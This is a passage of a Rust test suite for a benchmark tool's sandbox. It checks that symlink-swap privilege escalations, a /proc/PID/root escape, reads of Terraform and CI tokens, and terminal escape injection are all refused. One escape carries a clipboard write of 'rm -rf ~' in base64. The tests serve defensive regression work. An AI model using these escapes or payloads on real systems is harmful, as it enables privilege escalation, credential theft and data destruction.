        t(&r["finished_at"]) - t(&session["started_at"]) >= 2,
        "{r} / {session}"
    );
}

// Issue #37, round three: paths that langbench (root) creates, chowns and
// binds in its state directory and in a run's HOME, HOME's allowlist, the
// state directory wherever it lies, the caches' quota and the caches'
// names. Each attack aims at a directory of the test's own (a tempdir),
// never at the host's.

/// A python3 variant `id` running `programs/<id>.py`, with the TOML lines
/// `extra` added to its entry.
fn r3_entry(marker: &str, id: &str, extra: &str) -> String {
    let entry = Entry::sh(id)
        .language(id)
        .flags(&format!("python3 {id}"))
        .needs(&["python3"])
        .version_command("python3 --version")
        .run("python3 {src} {n}")
        .env("LANGBENCH_TEST_MARKER", marker)
        .program(&format!("programs/{id}.py"))
        .toml();
    format!("{}\n{extra}\n\n", entry.trim_end())
}

/// `langbench run ARGS` with its state directory `state` and HOME `home`.
fn r3_run(args: &[String], state: &Path, home: &Path) -> std::process::Output {
    Command::new(bin())
        .args(args)
        .env("LANGBENCH_STATE", state)
        .env("HOME", home)
        .env_remove("XDG_CACHE_HOME")
        .output()
        .expect("langbench runs")
}

/// The names in `dir`, sorted.
fn names_in(dir: &Path) -> Vec<String> {
    let mut n: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    n.sort();
    n
}

fn owner(p: &Path) -> u32 {
    use std::os::unix::fs::MetadataExt;
    std::fs::symlink_metadata(p).unwrap().uid()
}

/// Row 1 (critical): two overlapping `caches` entries (the outer one
/// bound over the inner one) let a run swap a directory of its outer
/// cache for a symlink; langbench, root, then created the inner cache and
/// chowned it to the sandbox's user through it, and bound it read-write.
/// Here the symlink points at a directory of the test's: a `target` in it
/// must keep its owner and nothing may be created there. The languages
/// file is refused at the line of the overlapping list.
#[test]
fn r3_row01_overlapping_caches_cannot_make_root_create_or_chown_a_host_directory() {
    let (_, m) = marker("r3a");
    let aim = tempfile::tempdir().unwrap();
    let target = aim.path().join("target");
    std::fs::create_dir(&target).unwrap();
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o755)).unwrap();
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let program = attack(&format!(
        r#"
c = os.path.expanduser('~/.c')
x = os.path.join(c, 'x')
if os.path.isdir(x) and not os.path.islink(x):
    os.rename(x, os.path.join(c, 'x-old'))
    os.symlink({aim:?}, x)
for p in (os.path.join(x, 'target', 'pwned'), os.path.join(x, 'made', 'pwned')):
    try:
        open(p, 'w').close()
        won.append('wrote ' + p)
    except OSError:
        pass
"#,
        aim = aim.path().display().to_string()
    ));
    let toml = r3_entry(
        &m,
        "r3a",
        r#"caches = ["~/.c/x/target", "~/.c/x/made", "~/.c"]"#,
    );
    let f = Fixture::new(&toml, &[("programs/r3a.py", &program)]);
    // Two sessions: the first run swaps, the second cell's caches are
    // set up through the swapped directory.
    let mut outputs = Vec::new();
    for _ in 0..2 {
        outputs.push(r3_run(&f.run_args(&[]), state.path(), home.path()));
    }
    assert_eq!(names_in(aim.path()), ["target"], "root created something");
    assert!(names_in(&target).is_empty());
    if root() {
        assert_eq!(owner(&target), 0, "root chowned the host's directory");
    }
    let o = &outputs[0];
    assert!(!o.status.success(), "{}", text(o));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("languages.toml:") && err.contains("overlap"),
        "{err}"
    );
}

/// Row 1, the same class through the run's HOME: a build step of a run
/// renames the HOME directory behind its bind (the build directory's
/// `.home`, which the run's steps share) and puts a symlink to a host
/// directory in its place. init (root) then bound the host directory as
/// the run's HOME, read-write, and created the cache's mount point in it,
/// owned by the sandbox's user. Now HOME is opened without following a
/// link: the run fails, the host directory stays as it was.
#[test]
fn r3_row01_a_build_step_cannot_swap_home_for_a_link_to_a_host_directory() {
    let (_, m) = marker("r3b");
    let aim = tempfile::tempdir().unwrap();
    std::fs::set_permissions(aim.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let extra = format!(
        "build = \"sh -c 'mv {{build}}/.home {{build}}/.old && ln -s {} {{build}}/.home'\"\n\
         caches = [\"~/.made\"]",
        aim.path().display()
    );
    let program = attack(
        r#"
try:
    open(os.path.expanduser('~/pwned'), 'w').close()
    won.append('wrote ~/pwned')
except OSError:
    pass
"#,
    );
    let f = Fixture::new(
        &r3_entry(&m, "r3b", &extra),
        &[("programs/r3b.py", &program)],
    );
    let o = r3_run(&f.run_args(&[]), state.path(), home.path());
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        names_in(aim.path()).is_empty(),
        "created in the host directory: {:?}",
        names_in(aim.path())
    );
    let r = &records(&f)["r3b"];
    assert_ne!(r["status"], "ok", "{r}");
}

/// Row 1, and inside HOME: a build step replaces a directory of HOME on
/// the way to a cache's mount point by a symlink that, seen from init
/// before the sandbox's /proc is mounted, leads into the host's own mount
/// namespace (`/proc/PID/root/...`, PID a process of the host's: here
/// the test's own). init created the mount point there, as root, owned by
/// the sandbox's user. Now every directory on the way to a
/// mount point in HOME is created and opened without following a link.
#[test]
fn r3_row01_a_symlink_planted_in_home_is_not_followed_to_a_mount_point() {
    let (_, m) = marker("r3c");
    let aim = tempfile::tempdir().unwrap();
    std::fs::set_permissions(aim.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let extra = format!(
        "build = \"sh -c 'mv $HOME/.c $HOME/.c-old; ln -s /proc/{}/root{} $HOME/.c'\"\n\
         caches = [\"~/.c/made\"]",
        std::process::id(),
        aim.path().display()
    );
    let f = Fixture::new(
        &r3_entry(&m, "r3c", &extra),
        &[("programs/r3c.py", &format!("{RIGHT}\n"))],
    );
    let o = r3_run(&f.run_args(&[]), state.path(), home.path());
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        names_in(aim.path()).is_empty(),
        "created in the host directory: {:?}",
        names_in(aim.path())
    );
}

/// Row 1, the same class in a `prepare` step's private copy (the state
/// directory's `prepared/`, the sandbox's to write): the step replaces
/// the copy's list of files by a symlink to a host file. Before the next
/// cell's `prepare`, langbench (root) brought the copy up to date and
/// wrote the list through the link: the file was truncated and its text
/// replaced by the checkout's file names, which the contributor chooses
/// (a name can be a crontab line). Now the copy is written relative to
/// its descriptor, never through a link.
#[test]
fn r3_row01_a_prepared_copy_cannot_make_root_write_through_a_link() {
    let (_, m) = marker("r3m");
    let aim = tempfile::tempdir().unwrap();
    let victim = aim.path().join("victim");
    std::fs::write(&victim, "kept\n").unwrap();
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let extra = format!(
        "prepare = \"sh -c 'ln -sf {} {{dir}}/.langbench-sources'\"",
        victim.display()
    );
    let f = Fixture::new(
        &r3_entry(&m, "r3m", &extra),
        &[("programs/r3m.py", &format!("{RIGHT}\n"))],
    );
    for _ in 0..2 {
        let o = r3_run(&f.run_args(&[]), state.path(), home.path());
        assert!(o.status.success(), "{}", text(&o));
        assert_eq!(records(&f)["r3m"]["status"], "ok", "{}", text(&o));
    }
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "kept\n");
}

/// Row 1's fix, its other side: what init opens without following a link
/// is named with its parent made canonical, since the parent is the
/// maintainer's (here a state directory reached through a link of theirs,
/// not made yet when the run starts): a `prepare` step still gets its
/// copy, writable. Named as given, the link made init refuse the copy and
/// every cell of a variant with `prepare` failed.
#[test]
fn r3_row01_a_state_directory_reached_through_a_link_of_the_maintainers_still_works() {
    let (_, m) = marker("r3l");
    let (real, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let link = home.path().join("state-link");
    std::os::unix::fs::symlink(real.path(), &link).unwrap();
    let f = Fixture::new(
        &r3_entry(&m, "r3l", "prepare = \"sh -c 'echo made > {dir}/made'\""),
        &[("programs/r3l.py", &format!("{RIGHT}\n"))],
    );
    let o = r3_run(&f.run_args(&[]), &link.join("state"), home.path());
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(records(&f)["r3l"]["status"], "ok", "{}", text(&o));
    assert_eq!(
        std::fs::read_to_string(real.path().join("state/prepared/r3l/num-comb/made")).unwrap(),
        "made\n"
    );
}

/// Row 3: HOME is an allowlist. A `home` entry outside it (here
/// `~/.terraform.d`, which holds an API token and was on no denylist) is
/// refused at its line, with the allowlist named, before anything runs.
#[test]
fn r3_row03_home_entries_outside_the_allowlist_are_refused() {
    let (_, m) = marker("r3h");
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let secret = "r3h-token-0123456789";
    std::fs::create_dir_all(home.path().join(".terraform.d")).unwrap();
    std::fs::write(
        home.path().join(".terraform.d/credentials.tfrc.json"),
        secret,
    )
    .unwrap();
    let program = attack(
        r#"
p = os.path.expanduser('~/.terraform.d/credentials.tfrc.json')
try:
    won.append('read ' + open(p).read())
except OSError:
    pass
"#,
    );
    let f = Fixture::new(
        &r3_entry(&m, "r3h", r#"home = ["~/.terraform.d"]"#),
        &[("programs/r3h.py", &program)],
    );
    let o = r3_run(&f.run_args(&[]), state.path(), home.path());
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success(), "{}", text(&o));
    assert!(
        err.contains("languages.toml:")
            && err.contains("~/.terraform.d")
            && err.contains("~/.rustup"),
        "{err}"
    );
    assert!(!f.path().join("results/runs.jsonl").exists());
}

/// Row 4: langbench's state directory (every variant's caches) is
/// covered in every sandbox wherever it lies: inside the languages file's
/// directory (which every command may read), or inside a toolchain's
/// directory of HOME that a `home` entry binds (`~/.rustup` binds its
/// parts since issue #59: the state lies in `~/.rustup/toolchains`).
/// Variant `a` fills its cache; `b` looks for it through both.
#[test]
fn r3_row04_the_state_directory_is_covered_wherever_it_lies() {
    let (_, m) = marker("r3s");
    let writer = format!(
        "import os\np = os.path.expanduser('~/.cache/x')\n\
         open(os.path.join(p, 'from-a'), 'w').write('x')\n{RIGHT}\n"
    );
    let reader = attack(
        r#"
for top in (os.environ['R3S_STATE'], os.path.expanduser('~/.rustup')):
    for d, _, files in os.walk(top):
        if 'from-a' in files:
            won.append('saw ' + d)
"#,
    );
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(home.path().join(".rustup/toolchains")).unwrap();
    for in_rustup in [false, true] {
        let toml = format!(
            "{}{}",
            r3_entry(&m, "a", r#"caches = ["~/.cache/x"]"#),
            r3_entry(&m, "b", r#"home = ["~/.rustup"]"#)
        )
        .replace("env = { ", "env = { R3S_STATE = \"@STATE@\", ");
        let f = Fixture::new(
            &toml,
            &[("programs/a.py", &writer), ("programs/b.py", &reader)],
        );
        let state = if in_rustup {
            home.path().join(".rustup/toolchains/lbstate")
        } else {
            f.path().join("state")
        };
        let toml = toml.replace("@STATE@", &state.display().to_string());
        std::fs::write(f.path().join("languages.toml"), toml).unwrap();
        let o = r3_run(&f.run_args(&[]), &state, home.path());
        assert!(o.status.success(), "{}", text(&o));
        let recs = records(&f);
        assert_eq!(recs["a"]["status"], "ok", "{}", recs["a"]);
        let b = &recs["b"];
        assert_eq!(b["status"], "ok", "state in {}: {b}", state.display());
        let _ = std::fs::remove_dir_all(home.path().join(".rustup/toolchains/lbstate"));
    }
}

/// Row 6: a variant's caches are bounded (`--cache-limit`, by default
/// `--disk-limit`) and counted: a run that leaves them past the quota
/// fails, saying so; the session records what each variant's caches held
/// when it started, and `list --long` shows it.
#[test]
fn r3_row06_caches_past_their_quota_fail_the_run_and_are_counted() {
    let (_, m) = marker("r3q");
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    // Each run adds 600 KB of its own to the cache.
    let program = format!(
        "import os\np = os.path.expanduser('~/.cache/q')\n\
         open(os.path.join(p, 'f%d' % len(os.listdir(p))), 'wb').write(os.urandom(600 * 1024))\n{RIGHT}\n"
    );
    let f = Fixture::new(
        &r3_entry(&m, "r3q", r#"caches = ["~/.cache/q"]"#),
        &[("programs/r3q.py", &program)],
    );
    let args = f.run_args_with_runs("3", &["--cache-limit", "1"]);
    let o = r3_run(&args, state.path(), home.path());
    assert!(o.status.success(), "{}", text(&o));
    let runs: Vec<serde_json::Value> = std::fs::read_to_string(f.path().join("results/runs.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(runs[0]["status"], "ok", "{}", runs[0]);
    assert_eq!(runs[1]["status"], "failed", "{}", runs[1]);
    let detail = runs[1]["detail"].as_str().unwrap_or_default();
    assert!(
        detail.contains("--cache-limit") && detail.contains("1 MB"),
        "{detail}"
    );
    // A second session starts with the caches counted.
    let o = r3_run(&args, state.path(), home.path());
    assert!(o.status.success(), "{}", text(&o));
    let sessions: Vec<serde_json::Value> =
        std::fs::read_to_string(f.path().join("results/sessions.jsonl"))
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
    let kb = sessions[1]["variants"][0]["caches_kb"].as_u64().unwrap();
    assert!(kb >= 1200, "{}", sessions[1]);
    let list = Command::new(bin())
        .args(["list", "--long", "--languages", &f.languages()])
        .env("LANGBENCH_STATE", state.path())
        .env("HOME", home.path())
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&list.stdout);
    assert!(out.contains("Caches") && out.contains("1.2 MB"), "{out}");
}

/// Row 10: the version a probe prints never names a directory: a version
/// of `..` kept the caches one level up, outside the variant's own
/// directory. They are named by a digest of the version, with the version
/// beside them.
#[test]
fn r3_row10_a_version_of_dotdot_keeps_the_caches_in_the_variants_directory() {
    let (_, m) = marker("r3v");
    let (state, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let program =
        format!("import os\nopen(os.path.expanduser('~/.cv/x'), 'w').write('x')\n{RIGHT}\n");
    let toml = r3_entry(&m, "r3v", "caches = [\"~/.cv\"]\nversion_regex = '(\\S+)'")
        .replace("python3 --version", "sh -c 'echo ..'");
    let f = Fixture::new(&toml, &[("programs/r3v.py", &program)]);
    let o = r3_run(&f.run_args(&[]), state.path(), home.path());
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(records(&f)["r3v"]["status"], "ok");
    assert_eq!(names_in(&state.path().join("caches")), ["r3v"]);
    let versions = names_in(&state.path().join("caches/r3v"));
    assert_eq!(versions.len(), 1, "{versions:?}");
    let dir = state.path().join("caches/r3v").join(&versions[0]);
    assert!(
        versions[0].len() == 16 && versions[0].chars().all(|c| c.is_ascii_hexdigit()),
        "{versions:?}"
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("version")).unwrap(),
        "..\n"
    );
    assert!(dir.join("home/.cv/x").exists());
}

/// Issue #37 row 9: CI's token in the checkout's git directory.
/// `actions/checkout` leaves the job's token in `.git/config` (an
/// `extraheader`); every sandboxed command of a languages file finds the
/// checkout that file lies in and sees its git directory empty: a plain
/// clone's `.git`, and a worktree's `.git` file with the directories it
/// names (the worktree's gitdir and the common one, where `config` is).
/// The checkout lies outside /tmp, as a CI runner's does.
#[test]
fn issue37_row09_the_checkouts_git_directory_and_ci_token_are_unreadable() {
    let (_, m) = marker("r3-09");
    let f = Fixture::new_in(Path::new("/var/tmp"), "", &[]);
    let top = f.path().to_path_buf();
    std::fs::set_permissions(&top, std::fs::Permissions::from_mode(0o755)).unwrap();
    let git = |dir: &Path, args: &[&str]| {
        let o = Command::new("git")
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@t",
                "-c",
                "commit.gpgsign=false",
            ])
            .args(args)
            .current_dir(dir)
            .output()
            .unwrap();
        assert!(o.status.success(), "git {args:?}: {}", text(&o));
    };
    let worktree = top.join("wt");
    // What a program can read of its own checkout's git directory (the
    // worktree's `.git` file only when it runs from the worktree).
    let secrets = [
        top.join(".git/config"),
        top.join(".git/HEAD"),
        top.join(".git/worktrees/wt/HEAD"),
    ];
    let probe = attack(&format!(
        r#"
secrets = {:?}
if os.path.realpath(sys.argv[0]).startswith({:?}):
    secrets.append({:?})
for p in secrets:
    try:
        data = open(p, 'rb').read()
        if data:
            won.append('read ' + p + (' (the token)' if b'SECRET-{m}' in data else ''))
    except OSError:
        pass
"#,
        secrets
            .iter()
            .map(|p| p.display().to_string())
            .collect::<Vec<_>>(),
        format!("{}/", worktree.display()),
        worktree.join(".git").display().to_string(),
    ));
    let toml = python_fixture(&m, &[("g", probe.clone())]);
    // The same languages file and program, committed in a real checkout.
    for name in ["languages.toml", "programs/g.py"] {
        let to = top.join(name);
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        std::fs::copy(toml.path().join(name), &to).unwrap();
    }
    git(&top, &["init", "-q", "-b", "main"]);
    git(&top, &["add", "languages.toml", "programs"]);
    git(&top, &["commit", "-qm", "x"]);
    git(&top, &["worktree", "add", "-q", "wt"]);
    git(
        &top,
        &[
            "config",
            "http.https://github.com/.extraheader",
            &format!("AUTHORIZATION: basic SECRET-{m}"),
        ],
    );
    let checkout = Fixture::new_in(Path::new("/var/tmp"), "", &[]);
    for languages in [top.join("languages.toml"), worktree.join("languages.toml")] {
        let out = checkout.path().join("results");
        let o = Command::new(bin())
            .args(["run", "--languages"])
            .arg(&languages)
            .args(["--size", "tiny", "--runs", "1", "--timeout", "60", "--out"])
            .arg(&out)
            .output()
            .unwrap();
        assert!(o.status.success(), "{}: {}", languages.display(), text(&o));
        let recs = std::fs::read_to_string(out.join("runs.jsonl")).unwrap();
        let r: serde_json::Value = serde_json::from_str(recs.lines().last().unwrap()).unwrap();
        assert_eq!(r["status"], "ok", "{}: {r}", languages.display());
        std::fs::remove_dir_all(&out).unwrap();
    }
    // The token is there for langbench itself (check --changed-since runs git).
    let config = std::fs::read_to_string(top.join(".git/config")).unwrap();
    assert!(config.contains(&format!("SECRET-{m}")));
}

/// Issue #37 row 15: benches/fidelity.py runs a languages file's recorded
/// commands uncontained (a person typing them is its reference), so it
/// refuses a file, or programs beside it, that differ from what the
/// checkout's HEAD commits, or that lie outside a checkout, and runs
/// nothing; `--unreviewed` overrides, and a committed file runs.
#[test]
fn issue37_row15_fidelity_refuses_an_unreviewed_languages_file() {
    let f = Fixture::new(
        &languages_toml(&[Entry::sh("hand")]),
        &[("programs/num-comb/hand.sh", "echo 0 1 $1\n")],
    );
    let ran = f.path().join("ran");
    let fidelity = |extra: &[&str]| {
        let work = f.path().join("work");
        Command::new("python3")
            .arg(repo().join("benches/fidelity.py"))
            .arg("--languages")
            .arg(f.path().join("languages.toml"))
            .args([
                "--lang", "hand", "--size", "tiny", "--rounds", "1", "--work",
            ])
            .arg(&work)
            .args(extra)
            .output()
            .unwrap()
    };
    let refused = |o: &std::process::Output, why: &str| {
        assert_eq!(o.status.code(), Some(2), "{}", text(o));
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            err.contains(why) && err.contains("--unreviewed"),
            "{}",
            text(o)
        );
        assert!(
            !f.path().join("work").exists(),
            "it ran something: {}",
            text(o)
        );
    };
    refused(&fidelity(&[]), "is not in a git checkout");
    let git = |args: &[&str]| {
        let o = Command::new("git")
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@t",
                "-c",
                "commit.gpgsign=false",
            ])
            .args(args)
            .current_dir(f.path())
            .output()
            .unwrap();
        assert!(o.status.success(), "git {args:?}: {}", text(&o));
    };
    git(&["init", "-q"]);
    git(&["add", "languages.toml", "programs"]);
    git(&["commit", "-qm", "reviewed"]);
    // A changed program: its command would run as the by-hand side.
    let program = f.path().join("programs/num-comb/hand.sh");
    std::fs::write(&program, format!("touch {}; echo 0 1 $1\n", ran.display())).unwrap();
    refused(
        &fidelity(&[]),
        "programs beside languages.toml differ from the committed ones",
    );
    git(&["checkout", "-q", "--", "programs"]);
    // A changed languages file.
    let toml = f.path().join("languages.toml");
    let committed = std::fs::read_to_string(&toml).unwrap();
    std::fs::write(
        &toml,
        committed.replace("sh {src} {n}", "sh -c 'touch ran' {src} {n}"),
    )
    .unwrap();
    refused(
        &fidelity(&[]),
        "languages.toml differs from the committed one",
    );
    assert!(!ran.exists());
    // Told it was read: it gets past the check (and runs).
    let o = fidelity(&["--unreviewed"]);
    assert!(
        !String::from_utf8_lossy(&o.stderr).contains("differs"),
        "{}",
        text(&o)
    );
    assert!(f.path().join("work").exists(), "{}", text(&o));
    std::fs::remove_dir_all(f.path().join("work")).unwrap();
    // The committed file runs.
    std::fs::write(&toml, committed).unwrap();
    let o = fidelity(&[]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("hand"),
        "{}",
        text(&o)
    );
}

// Issue #37, round three: results, text, proxy. Each test below is an
// attack of that issue's table (its row in the name), harmless if it
// succeeds: what it aims at is a file or directory of its own tempdir.

/// A results directory under `dir` holding a published edition's records
/// (results/2020's), as a branch would carry one.
fn edition_in(dir: &Path, name: &str, from: &str) -> PathBuf {
    let d = dir.join(name);
    std::fs::create_dir_all(&d).unwrap();
    for f in ["sessions.jsonl", "runs.jsonl"] {
        std::fs::copy(repo().join("results").join(from).join(f), d.join(f)).unwrap();
    }
    d
}

/// A victim file and a victim directory (with one file) in `dir`.
fn victims(dir: &Path) -> (PathBuf, PathBuf) {
    let file = dir.join("victim.txt");
    std::fs::write(&file, "precious\n").unwrap();
    let d = dir.join("victim-dir");
    std::fs::create_dir_all(&d).unwrap();
    std::fs::write(d.join("keep"), "precious\n").unwrap();
    (file, d)
}

fn assert_untouched(file: &Path, d: &Path) {
    assert_eq!(std::fs::read_to_string(file).unwrap(), "precious\n");
    let names: Vec<_> = std::fs::read_dir(d)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names, ["keep"], "written into {}", d.display());
    assert_eq!(
        std::fs::read_to_string(d.join("keep")).unwrap(),
        "precious\n"
    );
}

/// Row 2: a results directory a branch brings holding symbolic links
/// where langbench writes (`.lock`, a derived file's temporary name,
/// `charts`, a record file): `report`, `run --resume`, `compare --out` and
/// `history --out` refuse it, naming the link, write nothing, and the
/// files the links aim at (a file and a directory of this test's own)
/// stay as they were. Before, root truncated and wrote them.
#[test]
fn r3_row02_results_directories_holding_links_are_refused_and_nothing_is_written_through_them() {
    let t = tempfile::tempdir().unwrap();
    let (file, dir) = victims(t.path());
    let report = |d: &Path| langbench(&["report", d.to_str().unwrap()]);
    // What a branch can plant, and the command that would write through it.
    for (i, (link, to_dir)) in [
        (".lock", false),
        (".summary.csv.tmp", false),
        ("summary.csv", false),
        ("charts", true),
        ("runs.jsonl", false),
    ]
    .into_iter()
    .enumerate()
    {
        let d = edition_in(t.path(), &format!("r{i}"), "2020");
        let _ = std::fs::remove_file(d.join(link));
        let target = if to_dir { &dir } else { &file };
        std::os::unix::fs::symlink(target, d.join(link)).unwrap();
        let o = report(&d);
        let out = text(&o);
        assert!(!o.status.success(), "{link}: {out}");
        assert!(
            out.contains(&d.join(link).display().to_string()) && out.contains("symbolic link"),
            "{link} not named: {out}"
        );
        assert_untouched(&file, &dir);
        assert!(
            !d.join("summary.md").exists(),
            "{link}: derived files written"
        );
    }

    // `compare --out` and `history --out` into a directory holding links.
    let a = edition_in(t.path(), "a", "2020");
    let b = edition_in(t.path(), "b", "2021");
    for (cmd, link, to_dir) in [
        ("compare", ".compare.md.tmp", false),
        ("compare", "charts", true),
        ("history", ".history.md.tmp", false),
        ("history", "charts", true),
    ] {
        let out_dir = t
            .path()
            .join(format!("{cmd}-{}", link.trim_start_matches('.')));
        std::fs::create_dir_all(&out_dir).unwrap();
        let target = if to_dir { &dir } else { &file };
        std::os::unix::fs::symlink(target, out_dir.join(link)).unwrap();
        let o = langbench(&[
            cmd,
            a.to_str().unwrap(),
            b.to_str().unwrap(),
            "--out",
            out_dir.to_str().unwrap(),
        ]);
        let out = text(&o);
        assert!(!o.status.success(), "{cmd} {link}: {out}");
        assert!(
            out.contains(&out_dir.join(link).display().to_string()),
            "{cmd} {link} not named: {out}"
        );
        assert_untouched(&file, &dir);
        assert!(!out_dir.join("provenance.json").exists());
    }

    // `run --resume` on a directory whose `.lock` became a link.
    let (_, m) = marker("r3a02");
    let f = python_fixture(&m, &[("ok", format!("{RIGHT}\n"))]);
    let o = f.run(&["--timeout", "60"]);
    assert!(o.status.success(), "{}", text(&o));
    let results = f.path().join("results");
    let _ = std::fs::remove_file(results.join(".lock"));
    std::os::unix::fs::symlink(&file, results.join(".lock")).unwrap();
    let runs_before = std::fs::read(results.join("runs.jsonl")).unwrap();
    let o = f.run(&["--timeout", "60", "--resume"]);
    let out = text(&o);
    assert!(!o.status.success(), "{out}");
    assert!(
        out.contains(&results.join(".lock").display().to_string()),
        "{out}"
    );
    assert_untouched(&file, &dir);
    assert_eq!(
        std::fs::read(results.join("runs.jsonl")).unwrap(),
        runs_before
    );

    // A results directory reached through a link (`results` of the
    // checkout itself), relative as the default `--out` is.
    let checkout = t.path().join("checkout");
    std::fs::create_dir_all(&checkout).unwrap();
    std::os::unix::fs::symlink(&dir, checkout.join("results")).unwrap();
    let o = Command::new(bin())
        .args(["report", "results/2020"])
        .current_dir(&checkout)
        .output()
        .unwrap();
    assert!(!o.status.success(), "{}", text(&o));
    let o = Command::new(bin())
        .args([
            "compare",
            a.to_str().unwrap(),
            b.to_str().unwrap(),
            "--out",
            "results/x",
        ])
        .arg("--languages")
        .arg(repo().join("languages.toml"))
        .current_dir(&checkout)
        .output()
        .unwrap();
    assert!(!o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("results is a symbolic link"),
        "{}",
        text(&o)
    );
    assert_untouched(&file, &dir);
}

/// Row 2: `check` (which a pull request's CI runs) flags any symbolic link
/// under the checkout's `results/`, so a branch that brings one fails
/// there, before a maintainer runs anything on it.
#[test]
fn r3_row02_check_flags_a_link_under_results() {
    let absent = Entry::sh("absent")
        .needs(&["absent-tool-r3a02"])
        .version_command("absent-tool-r3a02 --version");
    let f = Fixture::new(
        &languages_toml(&[absent]),
        &[("programs/num-comb/absent.sh", "")],
    );
    let (file, _) = victims(f.path());
    let d = f.path().join("results/2026");
    std::fs::create_dir_all(d.join("charts")).unwrap();
    std::os::unix::fs::symlink(&file, d.join(".lock")).unwrap();
    std::os::unix::fs::symlink(&file, d.join("charts/assoc.svg")).unwrap();
    let o = langbench(&["check", "--languages", &f.languages()]);
    let out = text(&o);
    assert_eq!(o.status.code(), Some(1), "{out}");
    for link in [".lock", "charts/assoc.svg"] {
        assert!(
            out.contains(&format!("{}: -: a symbolic link", d.join(link).display())),
            "{link} not flagged: {out}"
        );
    }
}

/// Row 11: text a contributor controls (language, flags, note, the
/// version its probe prints, a failed program's stderr) reaches the
/// terminal (`list` in its three forms, `run`'s table) and the published
/// files (CSV, Markdown, HTML, SVG, the spreadsheet's XML) without an
/// escape sequence or control character: no clipboard write (OSC 52), no
/// window title (OSC 0), no bell.
#[test]
fn r3_row11_contributed_text_is_printed_and_published_without_escapes() {
    let (_, m) = marker("r3a11");
    let esc = "\u{1b}";
    let osc52 = format!("{esc}]52;c;cm0gLXJmIH4={}", '\u{7}');
    let evil = Entry::sh("evil")
        .language(&format!("Evil{osc52}"))
        .flags(&format!("python3 evil{esc}]0;pwned{esc}\\"))
        .needs(&["python3"])
        .version_command("sh -c 'printf \"1.0\\033]52;c;aWQ=\\007\\033[2J\\n\"'")
        .run("python3 {src} {n}")
        .env("LANGBENCH_TEST_MARKER", &m)
        .program("programs/evil.py");
    let fails = Entry::sh("fails")
        .language("Fails")
        .flags("python3 fails")
        .needs(&["python3"])
        .version_command("python3 --version")
        .run("python3 {src} {n}")
        .env("LANGBENCH_TEST_MARKER", &m)
        .program("programs/fails.py");
    let toml = languages_toml(&[evil, fails]).replace(
        "[[variant]]\nid = \"evil\"\n",
        "[[variant]]\nid = \"evil\"\nnote = \"a note\\u001b]52;c;aWQ=\\u0007 that bells\\u0007\"\n",
    );
    let f = Fixture::new(
        &toml,
        &[
            ("programs/evil.py", &format!("{RIGHT}\n")),
            (
                "programs/fails.py",
                "import sys\nsys.stderr.write('boom \\x1b]52;c;aWQ=\\x07\\x1b[31mred\\x07\\n')\nsys.exit(1)\n",
            ),
        ],
    );
    let clean = |what: &str, bytes: &[u8]| {
        let s = String::from_utf8_lossy(bytes);
        assert!(
            !s.contains(['\u{1b}', '\u{7}', '\u{9b}']),
            "{what} holds an escape or a bell: {s:?}"
        );
    };
    let languages = f.languages();
    for args in [vec!["list"], vec!["list", "--long"], vec!["list", "evil"]] {
        let mut all = args.clone();
        all.extend(["--languages", &languages]);
        let o = langbench(&all);
        assert!(o.status.success(), "{}", text(&o));
        clean(&args.join(" "), &o.stdout);
        clean(&args.join(" "), &o.stderr);
    }
    let o = f.run(&["--timeout", "60"]);
    assert!(o.status.success(), "{}", text(&o));
    clean("run", &o.stdout);
    clean("run", &o.stderr);
    assert_eq!(records(&f)["fails"]["status"], "failed");
    let results = f.path().join("results");
    for name in ["summary.csv", "runs.csv", "summary.md", "report.html"] {
        clean(name, &std::fs::read(results.join(name)).unwrap());
    }
    // The text is there, inert: the CSV still names the language.
    let csv = std::fs::read_to_string(results.join("summary.csv")).unwrap();
    assert!(csv.contains("Evil"), "{csv}");
    for e in std::fs::read_dir(results.join("charts")).unwrap() {
        let p = e.unwrap().path();
        clean(&p.display().to_string(), &std::fs::read(&p).unwrap());
    }
    let xlsx = std::fs::File::open(results.join("results.xlsx")).unwrap();
    let mut zip = zip::ZipArchive::new(xlsx).unwrap();
    for i in 0..zip.len() {
        let mut part = zip.by_index(i).unwrap();
        let name = format!("results.xlsx: part {i}");
        let mut bytes = Vec::new();
        std::io::Read::read_to_end(&mut part, &mut bytes).unwrap();
        clean(&name, &bytes);
        let s = String::from_utf8_lossy(&bytes);
        // rust_xlsxwriter writes a control character as `_x001B_`.
        assert!(
